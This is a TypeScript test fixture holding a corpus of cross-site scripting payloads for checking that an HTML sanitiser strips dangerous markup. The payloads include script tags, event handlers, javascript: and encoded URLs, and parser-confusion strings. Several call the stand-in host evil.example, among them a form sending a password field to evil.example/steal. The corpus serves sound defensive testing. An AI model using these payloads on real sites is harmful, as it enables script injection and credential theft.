/**
 * Server HTML meant to run, fetch or restyle: a payload that survived sanitising and ran
 * would bump window.__xss, open a dialog or ask evil.example for something.
 */
export const XSS_CORPUS: readonly string[] = [
  '<a href="https://example.com/ok" target="_self" onclick="window.__xss++">fine link</a>',
  '<script>window.__xss++</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<img src=x onerror="window.__xss++">',
  '<img src="https://evil.example/pixel.png">',
  '<p onclick="window.__xss++" onmouseover="window.__xss++">click me</p>',
  '<a href="javascript:window.__xss++">js link</a>',
  '<a href="JaVaScRiPt:window.__xss++">mixed case</a>',
  '<a href="&#106;avascript:window.__xss++">entity</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data link</a>',
  '<a href="vbscript:msgbox(1)">vb</a>',
  '<svg onload="window.__xss++"><script>window.__xss++</script></svg>',
  '<svg><animate onbegin="window.__xss++" attributeName="x" dur="1s"/></svg>',
  '<style>body{background:url(https://evil.example/bg.png)}</style>',
  '<p style="background:url(https://evil.example/bg.png)">styled</p>',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<iframe srcdoc="<script>parent.__xss++</script>"></iframe>',
  '<iframe src="https://evil.example/"></iframe>',
  '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf">',
  '<base href="https://evil.example/"><a href="/relative">relative</a>',
  '<form action="https://evil.example/steal"><input name="password"><button formaction="javascript:window.__xss++">go</button></form>',
  '<meta http-equiv="refresh" content="0;url=javascript:window.__xss++">',
  '<video><source onerror="window.__xss++"></video><audio src=x onerror="window.__xss++"></audio>',
  '<details open ontoggle="window.__xss++">toggle</details>',
  '<p id="x" class="evil" data-x="1" aria-hidden="true" title="t">attributes</p>',
  '<template><script>window.__xss++</script></template>',
  // Last: parser-confusion payloads whose unclosed tags swallow what follows.
  '<noscript><p title="</noscript><img src=x onerror=window.__xss++>"></noscript>',
  '<math><mtext><table><mglyph><style><img src=x onerror="window.__xss++">',
];

/** What may survive: the sanitiser's own allow-list. */
export {
  SAFE_ATTRIBUTES as ALLOWED_ATTRIBUTES,
  SAFE_TAGS as ALLOWED_TAGS,
} from '../../../src/ui/shared/safe-html/allow-list';
